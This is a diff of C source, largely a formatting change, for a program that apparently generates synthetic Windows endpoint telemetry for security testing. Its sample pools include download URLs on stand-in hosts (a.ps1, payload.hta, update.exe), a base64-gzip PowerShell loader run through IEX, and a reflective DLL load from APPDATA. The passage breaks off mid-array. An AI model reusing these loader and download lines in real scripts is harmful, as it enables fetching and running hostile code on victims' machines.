@@ -46,11 +46,13 @@ static uint64_t splitmix64(uint64_t *x)
 
 static void rseed(uint64_t s)
 {
-    for (int i = 0; i < 4; i++)
-        rs[i] = splitmix64(&s);
+    for (int i = 0; i < 4; i++) rs[i] = splitmix64(&s);
 }
 
-static inline uint64_t rotl64(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
+static inline uint64_t rotl64(uint64_t x, int k)
+{
+    return (x << k) | (x >> (64 - k));
+}
 
 static inline uint64_t rnext(void)
 {
@@ -66,17 +68,25 @@ static inline uint64_t rnext(void)
 }
 
 /* uniform in [0, n) */
-static inline uint32_t rbelow(uint32_t n) { return (uint32_t)(((rnext() >> 32) * (uint64_t)n) >> 32); }
-static inline uint32_t rrange(uint32_t lo, uint32_t hi) { return lo + rbelow(hi - lo + 1); }
-static inline int rpct(uint32_t p) { return rbelow(100) < p; }
+static inline uint32_t rbelow(uint32_t n)
+{
+    return (uint32_t)(((rnext() >> 32) * (uint64_t)n) >> 32);
+}
+static inline uint32_t rrange(uint32_t lo, uint32_t hi)
+{
+    return lo + rbelow(hi - lo + 1);
+}
+static inline int rpct(uint32_t p)
+{
+    return rbelow(100) < p;
+}
 #define RPICK(a) ((a)[rbelow((uint32_t)NELEM(a))])
 
 /* stable 64-bit hash of a string (used for per-path hashes and RVAs) */
 static uint64_t fnv1a(const char *s)
 {
     uint64_t h = 0xcbf29ce484222325ULL;
-    while (*s)
-        h = (h ^ (unsigned char)*s++) * 0x100000001b3ULL;
+    while (*s) h = (h ^ (unsigned char)*s++) * 0x100000001b3ULL;
     return h;
 }
 
@@ -91,7 +101,10 @@ static inline void wput(const char *s, size_t n)
 }
 #define L(s) wput(s, sizeof(s) - 1)
 #define K(k) L("\"" k "\":")
-static inline void wch(char c) { *wp++ = c; }
+static inline void wch(char c)
+{
+    *wp++ = c;
+}
 
 static const char HEXL[] = "0123456789abcdef";
 static const char HEXU[] = "0123456789ABCDEF";
@@ -122,7 +135,10 @@ static void wjs_n(const char *s, size_t n)
     }
     *wp++ = '"';
 }
-static inline void wjs(const char *s) { wjs_n(s, strlen(s)); }
+static inline void wjs(const char *s)
+{
+    wjs_n(s, strlen(s));
+}
 
 static void wu64(uint64_t v)
 {
@@ -132,8 +148,7 @@ static void wu64(uint64_t v)
         t[i++] = (char)('0' + v % 10);
         v /= 10;
     } while (v);
-    while (i)
-        *wp++ = t[--i];
+    while (i) *wp++ = t[--i];
 }
 
 static void whex(uint64_t v) /* lower-case, no prefix */
@@ -144,8 +159,7 @@ static void whex(uint64_t v) /* lower-case, no prefix */
         t[i++] = HEXL[v & 15];
         v >>= 4;
     } while (v);
-    while (i)
-        *wp++ = t[--i];
+    while (i) *wp++ = t[--i];
 }
 
 /* random lower hex of n digits into d (no NUL) */
@@ -153,8 +167,7 @@ static void rhex(char *d, int n, const char *alpha)
 {
     uint64_t r = 0;
     for (int i = 0; i < n; i++) {
-        if ((i & 15) == 0)
-            r = rnext();
+        if ((i & 15) == 0) r = rnext();
         d[i] = alpha[r & 15];
         r >>= 4;
     }
@@ -187,7 +200,7 @@ static size_t b64enc(char *d, const unsigned char *s, size_t n)
 
 /* time in 100 ns ticks since the Unix epoch */
 static uint64_t now_ticks;
-#define TICKS_PER_SEC 10000000ULL
+#define TICKS_PER_SEC   10000000ULL
 #define EPOCH_1601_SECS 11644473600ULL
 
 static void civil(int64_t z, int *y, unsigned *m, unsigned *d)
@@ -242,32 +255,47 @@ static void wts(uint64_t t) /* "2024-06-03T07:00:00.1234567Z" with quotes */
 /* ------------------------------------------------------- static pools */
 
 static const char *const FIRSTUSERS[] = {
-    "jsmith", "mgarcia", "akowalski", "lchen", "rpatel", "dnguyen", "kmueller", "sjohnson",
-    "tbrown", "ewilson", "opetrov", "hkim", "mrossi", "jlee", "bmartin", "cdavis",
-    "fnakamura", "ylevy", "pdubois", "asilva", "nschmidt", "vmorales", "gwright", "itanaka",
-    "admin-jmorgan", "svc_backup", "devops01", "qa.tester", "wjackson", "mthompson"};
-static const char *const DEPTS[] = {"FIN", "HR", "ENG", "OPS", "MKT", "LEG", "SAL", "IT", "RND", "SEC"};
+    "jsmith",        "mgarcia",    "akowalski", "lchen",     "rpatel",    "dnguyen",
+    "kmueller",      "sjohnson",   "tbrown",    "ewilson",   "opetrov",   "hkim",
+    "mrossi",        "jlee",       "bmartin",   "cdavis",    "fnakamura", "ylevy",
+    "pdubois",       "asilva",     "nschmidt",  "vmorales",  "gwright",   "itanaka",
+    "admin-jmorgan", "svc_backup", "devops01",  "qa.tester", "wjackson",  "mthompson"};
+static const char *const DEPTS[] = {"FIN", "HR",  "ENG", "OPS", "MKT",
+                                    "LEG", "SAL", "IT",  "RND", "SEC"};
 static const char *const ROLES[] = {"SQL", "APP", "FS", "WEB", "RDS", "EXCH", "BLD", "PRT"};
-static const char *const PROJECTS[] = {"billing-api", "inventory", "webportal", "etl-jobs", "mobile-backend",
-                                       "reporting", "auth-service", "data-pipeline", "infra-tools", "ml-models"};
-static const char *const VENDORS[] = {"Contoso", "Fabrikam", "Northwind", "AdventureWorks", "Litware",
-                                      "Tailspin", "WideWorldImporters", "Proseware"};
-static const char *const VENDORS_LC[] = {"contoso", "fabrikam", "northwind", "adventureworks", "litware",
-                                         "tailspin", "wideworldimporters", "proseware"};
-static const char *const TOOLS[] = {"sync", "backup", "inventory", "update-check", "cleanup", "report",
-                                    "collect", "deploy", "healthcheck", "agent", "migrate", "rotate-logs"};
-static const char *const DOCS[] = {"Q3 Budget Review", "Invoice_88213", "Onboarding Checklist", "Contract Draft v7",
-                                   "Board Minutes 2024-05", "Payroll Adjustments", "Project Plan", "Shipping Notice",
-                                   "Resume - J Doe", "Security Awareness", "Vendor Agreement", "Meeting Notes"};
-static const char *const SERVICES[] = {"Schedule", "BITS", "wuauserv", "Dnscache", "LanmanServer", "WinRM",
-                                       "Spooler", "EventLog", "TermService", "W32Time", "WSearch", "CryptSvc",
-                                       "gpsvc", "Appinfo", "seclogon", "RemoteRegistry", "MpsSvc", "sppsvc",
-                                       "VSS", "AgentSvc", "ContosoUpdater", "PSEXESVC"};
-static const char *const SVCDLLS[] = {"schedsvc", "qmgr", "wuaueng", "dnsrslvr", "srvsvc", "wsmsvc",
-                                      "termsrv", "w32time", "gpsvc", "appinfo", "seclogon", "regsvc"};
-static const char *const SVCGROUPS[] = {"netsvcs", "LocalService", "LocalServiceNetworkRestricted",
-                                        "NetworkService", "LocalSystemNetworkRestricted", "DcomLaunch",
-                                        "RPCSS", "UnistackSvcGroup", "wsappx", "appmodel"};
+static const char *const PROJECTS[] = {
+    "billing-api", "inventory",    "webportal",     "etl-jobs",    "mobile-backend",
+    "reporting",   "auth-service", "data-pipeline", "infra-tools", "ml-models"};
+static const char *const VENDORS[] = {"Contoso", "Fabrikam", "Northwind",          "AdventureWorks",
+                                      "Litware", "Tailspin", "WideWorldImporters", "Proseware"};
+static const char *const VENDORS_LC[] = {
+    "contoso", "fabrikam", "northwind",          "adventureworks",
+    "litware", "tailspin", "wideworldimporters", "proseware"};
+static const char *const TOOLS[] = {"sync",        "backup", "inventory", "update-check",
+                                    "cleanup",     "report", "collect",   "deploy",
+                                    "healthcheck", "agent",  "migrate",   "rotate-logs"};
+static const char *const DOCS[] = {
+    "Q3 Budget Review",      "Invoice_88213",       "Onboarding Checklist", "Contract Draft v7",
+    "Board Minutes 2024-05", "Payroll Adjustments", "Project Plan",         "Shipping Notice",
+    "Resume - J Doe",        "Security Awareness",  "Vendor Agreement",     "Meeting Notes"};
+static const char *const SERVICES[] = {
+    "Schedule", "BITS",     "wuauserv",       "Dnscache",       "LanmanServer", "WinRM",
+    "Spooler",  "EventLog", "TermService",    "W32Time",        "WSearch",      "CryptSvc",
+    "gpsvc",    "Appinfo",  "seclogon",       "RemoteRegistry", "MpsSvc",       "sppsvc",
+    "VSS",      "AgentSvc", "ContosoUpdater", "PSEXESVC"};
+static const char *const SVCDLLS[] = {"schedsvc", "qmgr",    "wuaueng",  "dnsrslvr",
+                                      "srvsvc",   "wsmsvc",  "termsrv",  "w32time",
+                                      "gpsvc",    "appinfo", "seclogon", "regsvc"};
+static const char *const SVCGROUPS[] = {"netsvcs",
+                                        "LocalService",
+                                        "LocalServiceNetworkRestricted",
+                                        "NetworkService",
+                                        "LocalSystemNetworkRestricted",
+                                        "DcomLaunch",
+                                        "RPCSS",
+                                        "UnistackSvcGroup",
+                                        "wsappx",
+                                        "appmodel"};
 static const char *const URLS[] = {
     "https://raw.githubusercontent.com/contoso-it/scripts/main/bootstrap.ps1",
     "http://198.51.100.23:8080/a.ps1",
@@ -276,18 +304,25 @@ static const char *const URLS[] = {
     "https://203.0.113.77/payload.hta",
     "https://files.litware.example/share/Q3_report.docm",
     "http://192.0.2.44/dl/update.exe"};
-static const char *const PYSCRIPTS[] = {"main", "etl_run", "train", "collect_metrics", "sync_s3", "app",
-                                        "scan_hosts", "build_report", "loader", "manage"};
+static const char *const PYSCRIPTS[] = {"main",    "etl_run", "train",      "collect_metrics",
+                                        "sync_s3", "app",     "scan_hosts", "build_report",
+                                        "loader",  "manage"};
 static const char *const PS_SCRIPTS[] = {
-    "Get-ChildItem -Path $env:ProgramData -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt "
+    "Get-ChildItem -Path $env:ProgramData -Recurse -Filter *.log | Where-Object { $_.LastWriteTime "
+    "-lt "
     "(Get-Date).AddDays(-30) } | Remove-Item -Force -ErrorAction SilentlyContinue",
-    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAKtWKkotLs1RslIqS8wpTVWqBQBmA9nqFAAAAA=='));"
-    "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::"
+    "$s=New-Object "
+    "IO.MemoryStream(,[Convert]::FromBase64String('"
+    "H4sIAAAAAAAEAKtWKkotLs1RslIqS8wpTVWqBQBmA9nqFAAAAA=='));"
+    "IEX (New-Object IO.StreamReader(New-Object "
+    "IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::"
     "Decompress))).ReadToEnd()",
     "Get-CimInstance -ClassName Win32_QuickFixEngineering | Sort-Object InstalledOn -Descending | "
     "Select-Object -First 20 | ConvertTo-Json -Compress",
-    "Set-MpPreference -DisableRealtimeMonitoring $false; Update-MpSignature -UpdateSource MicrosoftUpdateServer",
-    "[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes(\"$env:APPDATA\\helper.dll\")).GetType("
+    "Set-MpPreference -DisableRealtimeMonitoring $false; Update-MpSignature -UpdateSource "
+    "MicrosoftUpdateServer",
+    "[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes(\"$env:APPDATA\\helper.dll\"))."
+    "GetType("
     "'Helper.Loader').GetMethod('Run').Invoke($null,@())",
     "Get-ScheduledTask | Where-Object {$_.State -ne 'Disabled'} | Select-Object TaskName,State",
     "whoami /groups; Get-LocalGroupMember Administrators"};
@@ -296,30 +331,105 @@ static char *ps_encoded[NELEM(PS_SCRIPTS)];
 /* ------------------------------------------------------------ modules */
 
 enum {
-    M_NTDLL, M_KERNELBASE, M_KERNEL32, M_USER32, M_WIN32U, M_MSWSOCK, M_WS2_32, M_ADVAPI32, M_RPCRT4,
-    M_COMBASE, M_OLE32, M_OLEAUT32, M_UCRTBASE, M_SHELL32, M_WSTORAGE, M_SHCORE, M_SECHOST, M_WININET,
-    M_CLR, M_CLRJIT, M_MSCOREEI, M_MSCOREE,
-    M_MSCORLIB_NI, M_SYSTEM_NI, M_SYSCORE_NI, M_SMA_NI, M_CONSOLEHOST_NI, /* per-host hashed paths */
-    M_CORECLR_PS, M_SPCL_PS, M_SMA_PS, M_HOSTFXR_PS, M_HOSTPOLICY_PS,
-    M_CORECLR_DN, M_SPCL_DN, M_HOSTFXR_DN, M_HOSTPOLICY_DN,
-    M_FRAMEDYNOS, M_CIMWIN32, M_WMIPRVSD, M_FASTPROX,
-    M_VBE7, M_WWLIB, M_MSO, M_VBSCRIPT, M_WSHOM, M_JSCRIPT9, M_MSHTML, M_SCROBJ,
-    M_PYTHON311, M_CTYPES, M_LIBFFI, M_VCRUNTIME,
-    M_JVM, M_JAVADLL, M_JNET,
+    M_NTDLL,
+    M_KERNELBASE,
+    M_KERNEL32,
+    M_USER32,
+    M_WIN32U,
+    M_MSWSOCK,
+    M_WS2_32,
+    M_ADVAPI32,
+    M_RPCRT4,
+    M_COMBASE,
+    M_OLE32,
+    M_OLEAUT32,
+    M_UCRTBASE,
+    M_SHELL32,
+    M_WSTORAGE,
+    M_SHCORE,
+    M_SECHOST,
+    M_WININET,
+    M_CLR,
+    M_CLRJIT,
+    M_MSCOREEI,
+    M_MSCOREE,
+    M_MSCORLIB_NI,
+    M_SYSTEM_NI,
+    M_SYSCORE_NI,
+    M_SMA_NI,
+    M_CONSOLEHOST_NI, /* per-host hashed paths */
+    M_CORECLR_PS,
+    M_SPCL_PS,
+    M_SMA_PS,
+    M_HOSTFXR_PS,
+    M_HOSTPOLICY_PS,
+    M_CORECLR_DN,
+    M_SPCL_DN,
+    M_HOSTFXR_DN,
+    M_HOSTPOLICY_DN,
+    M_FRAMEDYNOS,
+    M_CIMWIN32,
+    M_WMIPRVSD,
+    M_FASTPROX,
+    M_VBE7,
+    M_WWLIB,
+    M_MSO,
+    M_VBSCRIPT,
+    M_WSHOM,
+    M_JSCRIPT9,
+    M_MSHTML,
+    M_SCROBJ,
+    M_PYTHON311,
+    M_CTYPES,
+    M_LIBFFI,
+    M_VCRUNTIME,
+    M_JVM,
+    M_JAVADLL,
+    M_JNET,
     /* service / COM server modules (selected per process) */
-    M_SVC_SCHEDSVC, M_SVC_QMGR, M_SVC_DNSRSLVR, M_SVC_LSASRV, M_SVC_LOCALSPL, M_SVC_GPSVC, M_SVC_APPINFO,
-    M_SVC_TERMSRV, M_COM_THUMBCACHE, M_COM_WINDOWSCODECS, M_COM_PHOTOMETA, M_COM_SHELL32,
+    M_SVC_SCHEDSVC,
+    M_SVC_QMGR,
+    M_SVC_DNSRSLVR,
+    M_SVC_LSASRV,
+    M_SVC_LOCALSPL,
+    M_SVC_GPSVC,
+    M_SVC_APPINFO,
+    M_SVC_TERMSRV,
+    M_COM_THUMBCACHE,
+    M_COM_WINDOWSCODECS,
+    M_COM_PHOTOMETA,
+    M_COM_SHELL32,
     M_COUNT,
     /* pseudo modules, resolved per event */
-    M_APP = 200, M_SVC, M_UNBACKED, M_UNKNOWN
+    M_APP = 200,
+    M_SVC,
+    M_UNBACKED,
+    M_UNKNOWN
 };
 #define NI_FIRST M_MSCORLIB_NI
 #define NI_COUNT 5
 
-enum { SG_NONE, SG_MSWIN, SG_MSCORP, SG_PSF, SG_ORACLE, SG_OPENJS, SG_GOOGLE, SG_MOZILLA, SG_SLACK, SG_ZOOM };
-static const char *const SIGNERS[] = {NULL, "Microsoft Windows", "Microsoft Corporation",
-                                      "Python Software Foundation", "Oracle America, Inc.", "OpenJS Foundation",
-                                      "Google LLC", "Mozilla Corporation", "Slack Technologies, LLC",
+enum {
+    SG_NONE,
+    SG_MSWIN,
+    SG_MSCORP,
+    SG_PSF,
+    SG_ORACLE,
+    SG_OPENJS,
+    SG_GOOGLE,
+    SG_MOZILLA,
+    SG_SLACK,
+    SG_ZOOM
+};
+static const char *const SIGNERS[] = {NULL,
+                                      "Microsoft Windows",
+                                      "Microsoft Corporation",
+                                      "Python Software Foundation",
+                                      "Oracle America, Inc.",
+                                      "OpenJS Foundation",
+                                      "Google LLC",
+                                      "Mozilla Corporation",
+                                      "Slack Technologies, LLC",
                                       "Zoom Video Communications, Inc."};
 
 typedef struct {
@@ -349,36 +459,50 @@ static module MODS[M_COUNT] = {
     [M_WININET] = {"c:\\windows\\system32\\wininet.dll", SG_MSWIN, 0},
     [M_CLR] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clr.dll", SG_MSCORP, 0},
     [M_CLRJIT] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clrjit.dll", SG_MSCORP, 0},
-    [M_MSCOREEI] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\mscoreei.dll", SG_MSCORP, 0},
+    [M_MSCOREEI] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\mscoreei.dll", SG_MSCORP,
+                    0},
     [M_MSCOREE] = {"c:\\windows\\system32\\mscoree.dll", SG_MSWIN, 0},
-    [M_MSCORLIB_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\mscorlib\\|\\mscorlib.ni.dll", SG_NONE, 0},
-    [M_SYSTEM_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system\\|\\system.ni.dll", SG_NONE, 0},
-    [M_SYSCORE_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.core\\|\\system.core.ni.dll",
-                      SG_NONE, 0},
+    [M_MSCORLIB_NI] =
+        {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\mscorlib\\|\\mscorlib.ni.dll", SG_NONE,
+         0},
+    [M_SYSTEM_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system\\|\\system.ni.dll",
+                     SG_NONE, 0},
+    [M_SYSCORE_NI] =
+        {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.core\\|\\system.core.ni.dll",
+         SG_NONE, 0},
     [M_SMA_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.manaa57fc8cc#\\|\\"
                   "system.management.automation.ni.dll",
                   SG_NONE, 0},
-    [M_CONSOLEHOST_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\microsoft.pb378ec07#\\|\\"
-                          "microsoft.powershell.consolehost.ni.dll",
-                          SG_NONE, 0},
+    [M_CONSOLEHOST_NI] =
+        {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\microsoft.pb378ec07#\\|\\"
+         "microsoft.powershell.consolehost.ni.dll",
+         SG_NONE, 0},
     [M_CORECLR_PS] = {"c:\\program files\\powershell\\7\\coreclr.dll", SG_MSCORP, 0},
     [M_SPCL_PS] = {"c:\\program files\\powershell\\7\\system.private.corelib.dll", SG_MSCORP, 0},
-    [M_SMA_PS] = {"c:\\program files\\powershell\\7\\system.management.automation.dll", SG_MSCORP, 0},
+    [M_SMA_PS] = {"c:\\program files\\powershell\\7\\system.management.automation.dll", SG_MSCORP,
+                  0},
     [M_HOSTFXR_PS] = {"c:\\program files\\powershell\\7\\hostfxr.dll", SG_MSCORP, 0},
     [M_HOSTPOLICY_PS] = {"c:\\program files\\powershell\\7\\hostpolicy.dll", SG_MSCORP, 0},
-    [M_CORECLR_DN] = {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\coreclr.dll", SG_MSCORP, 0},
-    [M_SPCL_DN] = {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\system.private.corelib.dll",
-                   SG_MSCORP, 0},
+    [M_CORECLR_DN] =
+        {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\coreclr.dll", SG_MSCORP,
+         0},
+    [M_SPCL_DN] =
+        {"c:\\program "
+         "files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\system.private.corelib.dll",
+         SG_MSCORP, 0},
     [M_HOSTFXR_DN] = {"c:\\program files\\dotnet\\host\\fxr\\8.0.4\\hostfxr.dll", SG_MSCORP, 0},
-    [M_HOSTPOLICY_DN] = {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\hostpolicy.dll",
-                         SG_MSCORP, 0},
+    [M_HOSTPOLICY_DN] =
+        {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\hostpolicy.dll",
+         SG_MSCORP, 0},
     [M_FRAMEDYNOS] = {"c:\\windows\\system32\\framedynos.dll", SG_MSWIN, 0},
     [M_CIMWIN32] = {"c:\\windows\\system32\\wbem\\cimwin32.dll", SG_MSWIN, 0},
     [M_WMIPRVSD] = {"c:\\windows\\system32\\wbem\\wmiprvsd.dll", SG_MSWIN, 0},
     [M_FASTPROX] = {"c:\\windows\\system32\\wbem\\fastprox.dll", SG_MSWIN, 0},
-    [M_VBE7] = {"c:\\program files\\common files\\microsoft shared\\vba\\vba7.1\\vbe7.dll", SG_MSCORP, 0},
+    [M_VBE7] = {"c:\\program files\\common files\\microsoft shared\\vba\\vba7.1\\vbe7.dll",
+                SG_MSCORP, 0},
     [M_WWLIB] = {"c:\\program files\\microsoft office\\root\\office16\\wwlib.dll", SG_MSCORP, 0},
-    [M_MSO] = {"c:\\program files\\common files\\microsoft shared\\office16\\mso.dll", SG_MSCORP, 0},
+    [M_MSO] = {"c:\\program files\\common files\\microsoft shared\\office16\\mso.dll", SG_MSCORP,
+               0},
     [M_VBSCRIPT] = {"c:\\windows\\system32\\vbscript.dll", SG_MSWIN, 0},
     [M_WSHOM] = {"c:\\windows\\system32\\wshom.ocx", SG_MSWIN, 0},
     [M_JSCRIPT9] = {"c:\\windows\\system32\\jscript9.dll", SG_MSWIN, 0},
@@ -410,7 +534,8 @@ static size_t MODLEN[M_COUNT];
 
 enum { FO = 1, FR2 = 2, FR3 = 4, FNS = 8, FCS = 16, FSC = 32, FO30 = 64 };
 /* FO optional (50%), FO30 optional (30%), FR2/FR3 repeat 1..2/1..3, FNS never symbolised,
-   FCS unbacked frame that may carry callsite bytes, FSC syscall site (leading bytes end in syscall) */
+   FCS unbacked frame that may carry callsite bytes, FSC syscall site (leading bytes end in syscall)
+ */
 
 typedef struct {
     uint8_t mod, fl;
@@ -428,97 +553,170 @@ typedef struct {
     uint8_t n;
 } tmpl;
 
-#define BOTTOM {M_KERNEL32, 0, "BaseThreadInitThunk", 0x1d}, {M_NTDLL, 0, "RtlUserThreadStart", 0x28}
-#define TPBOTTOM                                                                                            \
-    {M_NTDLL, FO30, "TppAlpcpExecuteCallback", 0x14d}, {M_NTDLL, 0, "TppWorkerThread", 0x4fe}, BOTTOM
+#define BOTTOM                                                                                     \
+    {M_KERNEL32, 0, "BaseThreadInitThunk", 0x1d},                                                  \
+    {                                                                                              \
+        M_NTDLL, 0, "RtlUserThreadStart", 0x28                                                     \
+    }
+#define TPBOTTOM                                                                                   \
+    {M_NTDLL, FO30, "TppAlpcpExecuteCallback", 0x14d}, {M_NTDLL, 0, "TppWorkerThread", 0x4fe},     \
+        BOTTOM
 
 static const fspec F_NATIVE[] = {{M_APP, FR2 | FNS, 0, 0}, BOTTOM};
-static const fspec F_GUI[] = {
-    {M_WSTORAGE, FO30, "CFSFolder::_CreateFileItem", 0x1b4}, {M_SHELL32, FO30, 0, 0},
-    {M_APP, FNS, 0, 0},
-    {M_USER32, FO30, "UserCallWinProcCheckWow", 0x2ad}, {M_USER32, FO30, "DispatchMessageWorker", 0x1e2},
-    {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_DOTNET[] = {
-    {M_UNBACKED, FR2 | FCS, 0, 0}, {M_SYSTEM_NI, FO30 | FNS, 0, 0}, {M_MSCORLIB_NI, FO | FR2 | FNS, 0, 0},
-    {M_CLR, 0, "CallDescrWorkerInternal", 0x83}, {M_CLR, FO30, "CallDescrWorkerWithHandler", 0x4e},
-    {M_CLR, FO30, "MethodDescCallSite::CallTargetWorker", 0x102}, {M_CLR, FO30, "RunMain", 0x1ab},
-    {M_CLR, FO30, "Assembly::ExecuteMainMethod", 0x114}, {M_CLR, FO30, "_CorExeMainInternal", 0xb2},
-    {M_MSCOREEI, FO, "_CorExeMain", 0xfa}, {M_MSCOREE, FO30, "_CorExeMain_Exported", 0x75}, BOTTOM};
-static const fspec F_POWERSHELL[] = {
-    {M_UNBACKED, FR2 | FCS, 0, 0}, {M_SMA_NI, FR2 | FNS, 0, 0}, {M_UNBACKED, FO30, 0, 0},
-    {M_SYSCORE_NI, FO30 | FNS, 0, 0}, {M_MSCORLIB_NI, FO30 | FNS, 0, 0}, {M_SMA_NI, FO30 | FNS, 0, 0},
-    {M_CLR, 0, "CallDescrWorkerInternal", 0x83}, {M_CLR, FO30, "CallDescrWorkerWithHandler", 0x4e},
-    {M_CONSOLEHOST_NI, FO30 | FNS, 0, 0}, {M_CLR, FO30, "ExecuteEXE", 0x3f}, {M_MSCOREEI, FO30, "CorExeMain", 0x11},
-    {M_APP, FO | FNS, 0, 0}, BOTTOM};
-static const fspec F_PWSH[] = {
-    {M_UNBACKED, FR2 | FCS, 0, 0}, {M_SMA_PS, FR2 | FNS, 0, 0}, {M_SPCL_PS, FO30 | FNS, 0, 0},
-    {M_CORECLR_PS, 0, "CallDescrWorkerInternal", 0x83}, {M_CORECLR_PS, FO30, "RunMain", 0x16b},
-    {M_HOSTPOLICY_PS, FO30 | FNS, 0, 0}, {M_HOSTFXR_PS, FO30 | FNS, 0, 0}, {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_DNCORE[] = {
-    {M_UNBACKED, FR2 | FCS, 0, 0}, {M_SPCL_DN, FO | FNS, 0, 0},
-    {M_CORECLR_DN, 0, "CallDescrWorkerInternal", 0x83}, {M_CORECLR_DN, FO, "MethodDescCallSite::CallTargetWorker", 0x1a0},
-    {M_HOSTPOLICY_DN, FO | FNS, 0, 0}, {M_HOSTFXR_DN, FO30 | FNS, 0, 0}, {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_RPC[] = {
-    {M_APP, FNS, 0, 0}, {M_RPCRT4, 0, "Invoke", 0x73}, {M_RPCRT4, FO, "NdrStubCall2", 0x30b},
-    {M_RPCRT4, FO30, "NdrServerCall2", 0x1a}, {M_RPCRT4, FO30, "DispatchToStubInCNoAvrf", 0x17},
-    {M_RPCRT4, 0, "RPC_INTERFACE::DispatchToStubWorker", 0x1a6}, {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
-    {M_RPCRT4, FO30, "LRPC_SCALL::HandleRequest", 0x871}, {M_RPCRT4, FO30, "LRPC_ADDRESS::ProcessIO", 0x939},
-    {M_RPCRT4, FO30, "LrpcIoComplete", 0x109}, TPBOTTOM};
-static const fspec F_RPC_SVC[] = {
-    {M_SVC, FNS, 0, 0}, {M_RPCRT4, 0, "Invoke", 0x73}, {M_RPCRT4, FO30, "NdrStubCall2", 0x30b},
-    {M_RPCRT4, FO30, "NdrServerCall2", 0x1a}, {M_RPCRT4, 0, "RPC_INTERFACE::DispatchToStubWorker", 0x1a6},
-    {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174}, {M_RPCRT4, FO30, "LRPC_ADDRESS::ProcessIO", 0x939},
-    {M_RPCRT4, FO30, "LrpcIoComplete", 0x109}, TPBOTTOM};
-static const fspec F_COM[] = {
-    {M_SVC, FNS, 0, 0}, {M_RPCRT4, 0, "Invoke", 0x73}, {M_RPCRT4, FO30, "Ndr64StubWorker", 0x7dd},
-    {M_RPCRT4, FO30, "NdrStubCall3", 0xc6}, {M_COMBASE, 0, "CStdStubBuffer_Invoke", 0x59},
-    {M_COMBASE, FO30, "DefaultStubInvoke", 0x18d}, {M_COMBASE, FO30, "ServerCall::ContextInvoke", 0x43f},
-    {M_COMBASE, FO, "ComInvokeWithLockAndIPID", 0xa5f}, {M_COMBASE, FO30, "ThreadInvoke", 0x5d},
-    {M_RPCRT4, 0, "DispatchToStubInCNoAvrf", 0x17}, {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
-    TPBOTTOM};
-static const fspec F_WMI[] = {
-    {M_CIMWIN32, FR2 | FNS, 0, 0}, {M_FRAMEDYNOS, 0, "Provider::ExecMethod", 0x4a},
-    {M_FRAMEDYNOS, FO, "CWbemProviderGlue::ExecMethodAsync", 0x1f2}, {M_WMIPRVSD, FO30 | FNS, 0, 0},
-    {M_APP, FO30 | FNS, 0, 0}, {M_RPCRT4, 0, "Invoke", 0x73}, {M_COMBASE, FO30, "CStdStubBuffer_Invoke", 0x59},
-    {M_COMBASE, FO30, "ComInvokeWithLockAndIPID", 0xa5f}, {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
-    TPBOTTOM};
-static const fspec F_VBA_WORD[] = {
-    {M_VBE7, FR2 | FNS, 0, 0}, {M_VBE7, FO, "DllFunctionCall", 0x1d7}, {M_VBE7, FO30 | FNS, 0, 0},
-    {M_MSO, FO30 | FNS, 0, 0}, {M_WWLIB, FR2 | FNS, 0, 0}, {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_VBA_XL[] = {
-    {M_VBE7, FR3 | FNS, 0, 0}, {M_VBE7, FO, "rtcShell", 0xa9}, {M_MSO, FO | FNS, 0, 0},
-    {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
-static const fspec F_VBSCRIPT[] = {
-    {M_WSHOM, FO | FNS, 0, 0}, {M_OLEAUT32, FO, "DispCallFunc", 0x16f},
-    {M_VBSCRIPT, 0, "CScriptRuntime::RunNoEH", 0x1e3}, {M_VBSCRIPT, FO, "CScriptRuntime::Run", 0xc4},
-    {M_VBSCRIPT, 0, "CScriptEntryPoint::Call", 0x11e}, {M_VBSCRIPT, FO30, "CSession::Execute", 0x2a4},
-    {M_VBSCRIPT, FO30, "COleScript::ExecutePendingScripts", 0x14a}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
+static const fspec F_GUI[] = {{M_WSTORAGE, FO30, "CFSFolder::_CreateFileItem", 0x1b4},
+                              {M_SHELL32, FO30, 0, 0},
+                              {M_APP, FNS, 0, 0},
+                              {M_USER32, FO30, "UserCallWinProcCheckWow", 0x2ad},
+                              {M_USER32, FO30, "DispatchMessageWorker", 0x1e2},
+                              {M_APP, FNS, 0, 0},
+                              BOTTOM};
+static const fspec F_DOTNET[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
